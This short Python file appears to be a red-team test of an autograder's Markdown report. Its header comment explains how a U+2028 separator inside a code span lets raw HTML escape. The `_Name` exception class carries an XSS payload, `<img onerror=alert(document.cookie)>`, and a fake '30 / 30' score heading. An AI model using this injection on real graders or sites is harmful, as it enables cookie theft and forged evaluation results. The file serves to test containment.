# Mechanism: Markdown injection through a line separator inside a code span. `markdown_text` keeps what
#   its regex takes for a code span as it is (CommonMark shows a span's content literally), escapes the
#   rest, then splits the text into Markdown lines with str.splitlines(), which also splits at U+2028.
#   The span regex excludes only "\n", so a span may hold U+2028: once split, the second half of the
#   span starts a Markdown line of its own, outside any span, and it begins with ">" (a blockquote),
#   so the raw HTML after it is live. The text rides in the exception's CLASS NAME (type() accepts any
#   string), which the judge quotes ("raised {type}") without the whitespace folding messages get.
# Tries to earn: raw HTML (<img src=x onerror=...>, a fake "30 / 30" heading) in the Markdown report
#   (GitHub step summary, PR comment) and in nbgrader feedback (markdown_text is the same).
# Contained outcome: the separator escaped or the name folded, every "<" an entity: no element other
#   than the report's own in the rendered Markdown.
from functools import partial

import jax
import jax.numpy as jnp

_Name = type("ShapeError`x\u2028><img src=x onerror=alert(document.cookie)> <h1>Score: 30 / 30</h1>`",
             (ValueError,), {})


@jax.jit
def norm(X):
    return (X - X.mean(0)) / X.std(0)


def negatives(x):
    return jnp.where(x < 0, x, 0.0)


def flatten(x):
    raise _Name("bad shape")


@partial(jax.jit, static_argnames='neg')
def maybe_negate(x, neg):
    return -x if neg else x
